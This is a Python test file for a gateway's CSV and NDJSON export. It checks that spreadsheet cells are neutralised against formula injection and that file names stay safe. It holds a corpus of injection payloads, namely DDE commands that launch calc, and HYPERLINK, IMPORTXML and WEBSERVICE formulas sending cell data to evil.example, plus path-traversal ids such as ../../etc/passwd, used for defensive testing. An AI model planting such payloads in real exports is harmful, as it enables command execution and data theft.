from __future__ import annotations

import csv
import io
import itertools

import msgspec
import pytest

from gateway.model import TYPES
from gateway.model.exchange import Delivery, Dispatch, Raw
from gateway.transport.row_files import ENVELOPE, by_type, columns_of, compose, ndjson, plain, raw_files, spreadsheet

STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    "\0",
    "\uff1d",
    "\uff0b",
    "\uff0d",
    "\uff20",
    " =",
    "\u00a0+",
    "\ufeff=",
)
BODIES = (
    "cmd|' /C calc'!A0",
    'HYPERLINK("https://evil.example/?x="&A1,"click")',
    "SUM(1+1)*cmd|' /C calc'!A0",
    'IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
    "2+5+cmd|' /C notepad'!'A1'",
    'WEBSERVICE("https://evil.example/")',
    'DDE("cmd";"/C calc";"x")',
)
ISA = "ISA*00*          *00*          *ZZ*SENDER         *ZZ*RECEIVER       *260714*0930*^*00501*000000101*0*T*:~"
PAYLOADS = [start + body for start, body in itertools.product(STARTS, BODIES)]


def delivery(type_name: str = "Appointment", body: bytes = b"{}", **changes: object) -> Delivery:
    fields = tuple(msgspec.json.decode(body, type=dict[str, msgspec.Raw]))
    values = {
        "key": "k1", "change": "created", "type": type_name, "record_id": "0198f3a2-0001",
        "order": "p", "version": 1, "at": "2026-07-14T09:00:00Z", "source": "north",
        "observed_at": "2026-07-14T08:59:59Z", "fields": fields, "body": body,
    }  # fmt: skip  # an envelope reads better packed
    return Delivery(**(values | changes))  # type: ignore[arg-type]  # tests vary any of them


def rows_of(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(), newline="")))


def test_there_are_a_hundred_payloads() -> None:
    """The formula corpus is as large as the requirement asks."""
    assert len(set(PAYLOADS)) >= 100


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_runs_as_a_formula(payload: str) -> None:
    """Whatever a text, nested, envelope or counting field holds, no cell starts like a formula."""
    body = msgspec.json.encode({"reason": payload, "room": payload + ',"\r\n=1', "minutes": payload, "zone": [payload]})
    table = rows_of(
        spreadsheet("Appointment", [delivery(body=body, source=payload)], ("reason", "room", "minutes", "zone"))
    )
    assert len(table) == 2
    assert all(len(row) == len(ENVELOPE) + 4 for row in table)
    for cell in table[1]:
        assert cell.lstrip(" \u00a0\ufeff")[:1] not in set("=+-@\t\r\n\0\uff1d\uff0b\uff0d\uff20")
    assert table[1][len(ENVELOPE)] == f"'{payload}"
    assert msgspec.json.decode(table[1][-1]) == [payload]


def test_negative_amounts_stay_numbers() -> None:
    """Money and counts keep their sign as numbers; the same text in a text field is neutralised."""
    body = b'{"amount":"-12.50","paid_total":"0.00","claim_count":-3,"trace_number":"-12.50","balanced":false}'
    columns = ("amount", "paid_total", "claim_count", "trace_number", "balanced", "method")
    table = rows_of(spreadsheet("Remittance", [delivery("Remittance", body)], columns))
    assert table[1][len(ENVELOPE) :] == ["-12.50", "0.00", "-3", "'-12.50", "false", ""]


def test_a_money_field_is_no_way_round() -> None:
    """A formula in a field declared as money is neutralised like any text."""
    body = msgspec.json.encode({"amount": "-1+cmd|' /C calc'!A0"})
    assert rows_of(spreadsheet("Remittance", [delivery("Remittance", body)], ("amount",)))[1][-1].startswith("'-1+cmd")


@pytest.mark.parametrize("text", ["O'Brien", "2026-07-14", "a=b", "", "3-4", "'=1", "\u00e9+"])
def test_harmless_text_is_left_alone(text: str) -> None:
    """Text that no spreadsheet would run is written as it is."""
    assert plain(text) == text


def test_csv_is_rfc_4180() -> None:
    """Lines end in CRLF; cells with commas, quotes or line ends are quoted and read back unchanged."""
    body = msgspec.json.encode({"reason": 'a,"b"\r\nc\nd', "room": "x\0y\ud7ff"})
    data = spreadsheet("Appointment", [delivery(body=body)], ("reason", "room"))
    assert data.count(b"\r\n") == 3
    assert data.endswith(b"\r\n")
    assert rows_of(data)[1][-2:] == ['a,"b"\r\nc\nd', "x\0y\ud7ff"]


def test_columns_do_not_depend_on_what_a_record_holds() -> None:
    """Every file of a type has the same columns: all declared fields, or those that were chosen."""
    full, empty = delivery(body=b'{"room":"2","start":"x"}'), delivery()
    assert columns_of("Appointment", [full], {}) == columns_of("Appointment", [empty], {})
    assert columns_of("Appointment", [full], {}) == TYPES["Appointment"].__struct_fields__
    assert columns_of("Appointment", [full], {"Appointment": ("room",)}) == ("room",)
    assert columns_of("Foreign", [delivery("Foreign", b'{"b":1,"a":{"c":2}}', fields=("b", "a.c"))], {}) == ["a", "b"]


def test_a_line_holds_the_envelope_and_the_record_as_the_view_made_it() -> None:
    """An NDJSON line is one line whatever the body's white space, with the body's own bytes in ``data``."""
    first = delivery(body=b'{"minutes":1e2,"room":"\\u000a"}')
    second = delivery(body=b'{\r\n "room": "x"\n}', change="updated", version=2)
    lines = ndjson([first, second]).splitlines()
    assert len(lines) == 2
    assert lines[0].endswith(b',"data":{"minutes":1e2,"room":"\\u000a"}}')
    assert list(msgspec.json.decode(lines[1])) == [*ENVELOPE, "data"]
    assert msgspec.json.decode(lines[1])["data"] == {"room": "x"}


def test_names_are_safe_whatever_the_ids_are() -> None:
    """A dispatch id or type that is no plain word becomes a digest, so a file never leaves the folder."""
    for strange in ("../../etc/passwd", "a/b", "", "x" * 300, "a\0b", "\u00e9", "-" * 5 + "\n"):
        rows = [delivery(strange)]
        dispatch = Dispatch(id=strange, route="r", deliveries=tuple(rows))
        for file in compose(dispatch, strange, rows, ("ndjson",), ()):
            assert "/" not in file.name
            assert file.name.isascii()
            assert len(file.name) < 200


def test_types_keep_their_order_apart() -> None:
    """Deliveries of each type stay in the order of the dispatch."""
    rows = (delivery("Payer", key="1"), delivery("Slot", key="2"), delivery("Payer", key="3"))
    found = by_type(Dispatch(id="d", route="r", deliveries=rows))
    assert {name: [row.key for row in rows] for name, rows in found.items()} == {"Payer": ["1", "3"], "Slot": ["2"]}


def test_what_was_received_is_a_file_named_by_version() -> None:
    """X12 becomes an interchange, anything else its own bytes; a delivery without it has no such file."""
    x12 = Raw("835 claim", b"CLP*A*1*1*1~", f"{ISA}GS*HP*S*R*20260714*0930*7*X*V~ST*835*1~".encode())
    rows = (
        delivery(key="a"), delivery("ClaimPayment", key="b", raw=(x12,)),
        delivery("Patient", key="c", version=3, raw=(Raw("ADT^A08", b"MSH|", b""),)),
    )  # fmt: skip
    found = dict(raw_files(Dispatch(id="d1", route="feed", deliveries=rows)))
    assert {key: file.name for key, file in found.items()} == {
        "b": "ClaimPayment-0198f3a2-0001-1.x12", "c": "Patient-0198f3a2-0001-3.raw"
    }  # fmt: skip
    assert found["b"].body.endswith(b"ST*835*1~LX*1~CLP*A*1*1*1~SE*4*1~GE*1*7~IEA*1*000000101~")
    assert found["c"].body == b"MSH|"
